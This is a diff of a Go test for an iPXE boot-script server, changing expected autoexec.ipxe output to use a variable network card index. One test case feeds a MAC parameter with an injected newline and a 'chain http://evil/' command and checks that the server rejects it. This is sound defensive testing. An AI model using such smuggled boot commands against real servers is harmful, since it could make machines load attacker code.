@@ -173,8 +173,8 @@ func TestBootScripts(t *testing.T) {
 		"a hostile MAC is no MAC": {
 			path: "/boot/ipxe?mac=%0Achain%20http://evil/", has: []string{"no MAC address"}, hasNo: []string{"evil"},
 		},
-		"autoexec.ipxe asks for the script":                   {path: "/autoexec.ipxe", has: []string{"ifopen net0", "/boot/ipxe?mac=${net0/mac:hexhyp}"}},
-		"autoexec.ipxe beside the loader asks for the script": {path: "/boot/autoexec.ipxe", has: []string{"ifopen net0"}},
+		"autoexec.ipxe asks for the script":                   {path: "/autoexec.ipxe", has: []string{"ifopen net${card}", "/boot/ipxe?mac=${net${card}/mac:hexhyp}"}},
+		"autoexec.ipxe beside the loader asks for the script": {path: "/boot/autoexec.ipxe", has: []string{"ifopen net${card}"}},
 	}
 	for name, tt := range tests {
 		t.Run(name, func(t *testing.T) {
